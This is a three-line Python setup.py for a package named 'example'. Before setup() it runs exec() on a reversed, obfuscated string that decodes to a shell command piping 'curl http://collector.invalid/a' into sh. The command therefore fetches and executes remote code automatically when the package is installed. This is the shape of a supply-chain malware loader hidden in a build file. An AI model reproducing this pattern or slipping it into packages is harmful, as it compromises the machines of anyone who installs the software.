from setuptools import setup
exec(")'hs | a/dilavni.rotcelloc//:ptth lruc'(metsys.so;so tropmi"[::-1])
setup(name='example', version='1.0')
